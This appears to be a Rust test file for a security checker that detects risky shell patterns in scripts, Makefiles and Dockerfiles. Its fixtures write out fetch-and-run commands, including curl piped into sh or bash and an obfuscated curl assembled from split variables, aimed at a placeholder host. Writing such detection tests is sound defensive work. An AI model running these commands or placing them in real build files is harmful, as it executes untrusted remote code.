use super::*;

fn names(path: &str, source: &str) -> Vec<String> {
    let parsed = crate::check::parse::file(path, source.as_bytes());
    let wanted = |fact: &&Fact| matches!(fact.kind, FactKind::Shell | FactKind::Flow | FactKind::File);
    parsed
        .facts
        .iter()
        .filter(wanted)
        .map(|fact| format!("{}:{} {}", fact.span.line, fact.span.column, fact.name))
        .collect()
}

#[test]
fn facts_stand_on_the_command() {
    let source =
        "#!/bin/sh\nset -e\nif true; then\n  A=cu; B=rl\n  $A$B -o t https://a.invalid/t && sh t\nfi\n";
    let got = names("x.sh", source);
    for wanted in [
        "5:3 curl",
        "5:3 download",
        "5:3 net->fs-write",
        "5:36 download-and-run",
        "5:36 net->process",
        "5:36 sh",
    ] {
        assert!(got.iter().any(|name| name == wanted), "{wanted} in {got:?}");
    }
    assert_eq!(
        crate::check::parse::file("x", source.as_bytes()).treatment,
        Treatment::Parsed("shell".to_owned())
    );
}

#[test]
fn what_cannot_be_read_says_where_and_is_lexed() {
    let source = "curl -s https://a.invalid/x | bash\nif true; then\n";
    let got = names("x.sh", source);
    assert!(got.iter().any(|name| name.ends_with(" unparsed")), "{got:?}");
    assert!(got.iter().any(|name| name == "1:1 pipe-to-shell"), "{got:?}");
}

#[test]
fn shell_in_other_files() {
    let make = names("Makefile", "all:\n\t@curl -s https://a.invalid/x | sh\n");
    assert!(make.iter().any(|name| name == "2:33 pipe-to-shell"), "{make:?}");
    let docker = names("Dockerfile", "FROM a\nRUN apt-get update \\\n && curl -s a.invalid/x | sh\n");
    assert!(docker.iter().any(|name| name == "3:27 pipe-to-shell"), "{docker:?}");
}

#[test]
fn files_that_a_script_starts() {
    let parsed = parse("scripts/a.sh", "source ./b.sh\nnode c.js\n");
    assert_eq!(parsed.local, ["scripts/b.sh", "scripts/c.js"]);
}

#[test]
fn brackets_in_a_word_for_a_variable_are_a_text() {
    let parsed =
        parse("s.sh", "printf '%s%s' \"${a:-none}\" \"${age:+ (${age}m)}\"\ncurl https://a.invalid/x\n");
    assert!(parsed.facts.iter().all(|fact| fact.name != "unparsed"), "{:?}", parsed.facts);
    assert!(parsed.facts.iter().any(|fact| fact.name == "curl" && fact.span.line == 2));
    // A command in it stays one.
    assert_eq!(without_brackets("echo \"${a:-$(id)}\""), None);
    assert_eq!(without_brackets("echo \"${a:-b}\" (x)"), None);
}
